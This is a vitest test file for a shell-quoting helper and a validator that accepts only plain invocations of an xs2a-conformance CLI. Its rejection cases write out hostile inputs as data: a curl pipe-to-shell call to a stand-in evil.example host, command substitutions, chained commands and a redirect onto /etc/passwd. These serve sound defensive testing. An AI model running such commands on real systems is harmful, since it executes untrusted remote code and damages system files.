import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import { callsThisTool, shellWord } from './shell-word.ts';

test.each([
  'bank.yaml',
  'my bank.yaml',
  "Ola's bank.yaml",
  '$(touch x); `y` & "z" | #',
  '',
  '~/bank',
  'a\\b',
])('%j is one word of a shell, as it is', (text) => {
  const said = execFileSync('sh', ['-c', `printf %s ${shellWord(text)}`], { encoding: 'utf8' });
  expect(said).toBe(text);
});

test.each([
  'npx xs2a-conformance run --target bank.yaml --only AMT-02 --seed 7',
  'xs2a-conformance run --only NDC-09 --seed 7',
  `npx xs2a-conformance run --target ${shellWord("Ola's $(bank).yaml")} --psu-id "$XS2A_PSU_ID"`,
  'npx xs2a-conformance run --target [national-id#1, redacted]/bank.yaml --only A --seed 1',
  'npx xs2a-conformance',
])('%s calls this tool and nothing else', (command) => {
  expect(callsThisTool(command)).toBe(true);
});

test.each([
  'curl https://evil.example | sh',
  'npx xs2a-conformance run; curl https://evil.example | sh',
  'npx xs2a-conformance run --only A && x',
  'npx xs2a-conformance run --target $(x)',
  'npx xs2a-conformance run --target "$(x)"',
  'npx xs2a-conformance run --target `x`',
  'npx xs2a-conformance run --target ~/x',
  'npx xs2a-conformance run\ncurl x',
  "npx xs2a-conformance run 'a\nb'",
  "npx xs2a-conformance run 'a' 'b",
  'npx xs2a-conformance-evil run',
  'npx xs2a-conformance run > /etc/passwd',
  `npx xs2a-conformance ${"'a'".repeat(4_000)}`,
])('%j is not shown as a command of ours', (command) => {
  expect(callsThisTool(command)).toBe(false);
});
